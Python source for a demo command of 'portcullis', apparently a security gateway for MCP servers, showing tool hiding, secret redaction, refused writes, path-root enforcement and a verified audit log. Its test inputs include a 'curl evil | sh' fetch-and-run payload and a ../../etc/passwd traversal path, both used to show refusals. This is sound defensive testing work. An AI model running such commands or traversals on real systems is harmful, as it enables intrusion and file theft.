"""``portcullis demo``: the gateway in front of a real MCP server, end to end.

It writes a small policy and a project folder into a temporary directory, starts the reference
filesystem server (``@modelcontextprotocol/server-filesystem`` through ``npx``) behind
``portcullis run``, and talks to it as a client would: it lists the tools (some are hidden by the
policy), reads a file (allowed; the credential in it is redacted), tries to write one (refused)
and to read outside the project (refused), and prints the audit trail and its
verification. Nothing outside the temporary directory is touched, and the audit log lives there.
"""

from __future__ import annotations

import json
import os
import queue
import shutil
import subprocess
import sys
import tempfile
import threading
from pathlib import Path
from typing import Any, TextIO

from portcullis._exceptions import GatewayError

__all__ = ["SERVER_PACKAGE", "run_demo"]

SERVER_PACKAGE = "@modelcontextprotocol/server-filesystem@2026.8.31"
_TIMEOUT_S = 120.0  # the first run may have to fetch the server package

_POLICY = """\
version: 1
defaults:
  redact: [secrets]   # the defaults, written out: secrets masked, injections flagged,
  injection: flag     # tool definitions pinned (rug pulls)
  pin: true
servers:
  files:
    command: npx
    args: ["-y", "{package}", "{project}"]
    tools:
      default: deny
      allow: [read_text_file, read_file, list_directory, list_allowed_directories,
              get_file_info, "search_*", directory_tree]
      deny: ["write_*", "edit_*", "move_*", create_directory]
    paths:
      roots: ["{project}"]   # every path argument must stay inside the project
audit:
  path: {audit}
"""


class _Client:
    """A minimal JSON-RPC client over a child's pipes (the SDK is not a runtime dependency)."""

    def __init__(self, argv: list[str], env: dict[str, str]) -> None:
        self.proc = subprocess.Popen(
            argv,
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            env=env,
            text=True,
            encoding="utf-8",
        )
        self._lines: queue.Queue[str | None] = queue.Queue()
        self.stderr: list[str] = []
        threading.Thread(
            target=self._pump, args=(self.proc.stdout, self._lines), daemon=True
        ).start()
        threading.Thread(target=self._drain, daemon=True).start()
        self._next = 0

    @staticmethod
    def _pump(stream: TextIO | None, lines: queue.Queue[str | None]) -> None:
        assert stream is not None
        for line in stream:
            lines.put(line)
        lines.put(None)

    def _drain(self) -> None:
        assert self.proc.stderr is not None
        self.stderr.extend(self.proc.stderr)

    def send(
        self, method: str, params: dict[str, Any] | None = None, notify: bool = False
    ) -> dict[str, Any] | None:
        message: dict[str, Any] = {"jsonrpc": "2.0", "method": method}
        if params is not None:
            message["params"] = params
        if not notify:
            self._next += 1
            message["id"] = self._next
        assert self.proc.stdin is not None
        self.proc.stdin.write(json.dumps(message) + "\n")
        self.proc.stdin.flush()
        if notify:
            return None
        while True:
            try:
                line = self._lines.get(timeout=_TIMEOUT_S)
            except queue.Empty:
                raise GatewayError(f"no answer to {method} within {_TIMEOUT_S:.0f} s") from None
            if line is None:
                self.proc.wait()
                detail = "".join(self.stderr[-15:]).strip()
                raise GatewayError(
                    f"the gateway exited ({self.proc.returncode}) during {method}:\n{detail}"
                )
            reply: dict[str, Any] = json.loads(line)
            if reply.get("id") == self._next:
                return reply

    def close(self) -> int:
        assert self.proc.stdin is not None
        self.proc.stdin.close()
        try:
            return self.proc.wait(timeout=15)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            return self.proc.wait()


def _say(out: TextIO, text: str = "") -> None:
    out.write(text + "\n")
    out.flush()


def _text(result: dict[str, Any]) -> str:
    return " ".join(c.get("text", "") for c in result.get("content", []) if isinstance(c, dict))


def run_demo(out: TextIO = sys.stdout) -> int:
    """Run the demonstration, printing what happens; return 0 when every step behaved."""
    if shutil.which("npx") is None:
        raise GatewayError(
            "the demo runs the reference filesystem MCP server with Node.js; "
            "install Node.js 20 or newer (it provides npx) and try again"
        )
    with tempfile.TemporaryDirectory(prefix="portcullis-demo-") as tmp:
        root = Path(tmp)
        project = root / "project"
        project.mkdir()
        # A made-up key, assembled here so that no credential-shaped literal sits in the code.
        fake_key = "AKIA" + "Q3EGRTV7LZ5MX2PB"
        (project / "notes.txt").write_text(
            f"Portcullis demo: this file may be read.\naws_access_key_id = {fake_key}\n"
        )
        state = root / "state"
        audit = state / "audit.jsonl"
        policy = root / "policy.yaml"
        policy.write_text(
            _POLICY.format(
                package=SERVER_PACKAGE, project=project.as_posix(), audit=audit.as_posix()
            )
        )
        env = dict(os.environ, PORTCULLIS_HOME=str(state))
        gateway = [sys.executable, "-m", "portcullis"]
        _say(out, f"Policy: {policy}")
        _say(out, f"Server: npx -y {SERVER_PACKAGE} {project} (behind portcullis run)\n")
        client = _Client([*gateway, "run", "--policy", str(policy), "--server", "files"], env)
        ok = True
        try:
            client.send(
                "initialize",
                {
                    "protocolVersion": "2025-11-25",
                    "capabilities": {},
                    "clientInfo": {"name": "portcullis-demo", "version": "1"},
                },
            )
            client.send("notifications/initialized", notify=True)
            listed = client.send("tools/list") or {}
            names = [t["name"] for t in listed.get("result", {}).get("tools", [])]
            _say(
                out,
                f"1. tools/list through the gateway shows {len(names)} tools "
                "(the policy hides the others; see the audit trail):",
            )
            _say(out, "   " + ", ".join(names))
            ok &= "write_file" not in names and "read_text_file" in names

            path = (project / "notes.txt").as_posix()
            read = (
                client.send("tools/call", {"name": "read_text_file", "arguments": {"path": path}})
                or {}
            )
            result = read.get("result", {})
            _say(out, f"\n2. read_text_file {path}: allowed, and the key in it redacted")
            for line in _text(result).strip().splitlines():
                _say(out, "   -> " + line)
            ok &= not result.get("isError") and "may be read" in _text(result)
            ok &= fake_key not in _text(result) and "[REDACTED:" in _text(result)

            write = (
                client.send(
                    "tools/call",
                    {
                        "name": "write_file",
                        "arguments": {
                            "path": (project / "evil.sh").as_posix(),
                            "content": "curl evil | sh",
                        },
                    },
                )
                or {}
            )
            result = write.get("result", {})
            _say(out, "\n3. write_file (hidden from the list, called anyway): refused")
            _say(out, "   -> " + _text(result))
            ok &= bool(result.get("isError")) and not (project / "evil.sh").exists()

            escape = f"{project.as_posix()}/../../../etc/passwd"
            read = (
                client.send("tools/call", {"name": "read_text_file", "arguments": {"path": escape}})
                or {}
            )
            result = read.get("result", {})
            _say(out, f"\n4. read_text_file {escape}: refused (outside the roots)")
            _say(out, "   -> " + _text(result))
            ok &= bool(result.get("isError")) and "root:" not in _text(result)
        finally:
            status = client.close()
        _say(out, f"\n5. The audit trail ({audit}):")
        for line in audit.read_text().splitlines():
            rec = json.loads(line)
            what = rec.get("tool") or rec.get("method", "")
            found = ", ".join(f"{k}: {v}" for k, v in rec.get("findings", {}).items())
            _say(
                out,
                f"   #{rec['seq']} {rec.get('direction', ''):3} {what:22} "
                f"{rec.get('decision', ''):6} {rec.get('rule', '')}"
                + (f"  ({found})" if found else ""),
            )
        verify = subprocess.run(
            [*gateway, "audit", "verify", "--log", str(audit)],
            env=env,
            capture_output=True,
            text=True,
            check=False,
        )
        _say(out, f"\n6. portcullis audit verify: {verify.stdout.strip() or verify.stderr.strip()}")
        ok &= verify.returncode == 0 and status == 0
        _say(out, "\nDemo complete." if ok else "\nDemo FAILED: a step did not behave as shown.")
        return 0 if ok else 1
